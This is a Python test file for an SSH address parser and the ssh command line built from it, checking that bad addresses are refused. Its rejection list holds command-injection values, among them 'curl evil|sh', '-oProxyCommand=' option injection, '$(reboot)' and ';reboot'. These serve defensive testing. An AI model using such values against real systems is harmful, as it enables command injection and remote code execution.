"""Addresses through a server, and the command line that is made of them (E1)."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from net.openssh.address import ServerAddress, parse_server
from net.openssh.call import COMMAND, words
from net.ssh.errors import AddressError


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("ssh://tilde", ServerAddress("tilde")),
        ("ssh://tilde/", ServerAddress("tilde")),
        ("ssh://me@tilde.example", ServerAddress("tilde.example", "me")),
        ("ssh://me@tilde:2222/ann", ServerAddress("tilde", "me", 2222, "ann")),
        (
            "ssh://me@tilde/ann/one-hundred",
            ServerAddress("tilde", "me", None, "ann/one-hundred"),
        ),
        ("ssh://[::1]:22/ann", ServerAddress("::1", "", 22, "ann")),
        ("ssh://me@[fe80::1%eth0]", ServerAddress("fe80::1%eth0", "me")),
    ],
)
def test_an_address_is_read(text: str, place: ServerAddress) -> None:
    """User, server, port and table; each but the server may be missing."""
    assert parse_server(text) == place


@pytest.mark.parametrize(
    "text",
    [
        "ssh://me@server/x;curl evil|sh",
        "ssh://-oProxyCommand=touch${IFS}x",
        "ssh://-oProxyCommand=x@server",
        "ssh://me@-oProxyCommand=x",
        "ssh://me@server/-oProxyCommand=x",
        "ssh://me@server/$(reboot)",
        "ssh://me@server/`reboot`",
        "ssh://me@server/a b",
        "ssh://me@server/a/b/c",
        "ssh://me@server/../x",
        "ssh://me@server/a\nb",
        "ssh://me;reboot@server",
        "ssh://me@server;reboot",
        "ssh://me@server:22;reboot",
        "ssh://me@server:0",
        "ssh://me@server:99999",
        "ssh://me@server:",
        "ssh://me@",
        "ssh://@server",
        "ssh://",
        "ssh:///ann",
        "ssh://[::1",
        "ssh://[-oProxyCommand=x]",
        "ssh://[::1%-o]",
        "ssh://::1",
        "ssh://a:b:c",
        "ssh://sérver",
        "ssh://" + "a" * 1000,
        "http://server",
    ],
)
def test_what_is_no_address_is_refused(text: str) -> None:
    """E1: words of the address match a pattern before anything is started."""
    with pytest.raises(AddressError):
        parse_server(text)


@given(st.text(max_size=60))
def test_nothing_but_words_reaches_the_command_line(text: str) -> None:
    """E1: whatever is typed, ssh gets two words after `--`, and the second is always the same."""
    try:
        place = parse_server(f"ssh://{text}")
    except AddressError:
        return
    for batch in (False, True):
        line = words(place, COMMAND, batch=batch)
        assert line[line.index("--") :] == ["--", place.target, "stammtisch relay"]
        assert place.table not in line or not place.table
        assert not place.target.startswith("-")
        assert all(sign not in place.target for sign in " ;|&$`'\"\\<>()\n")
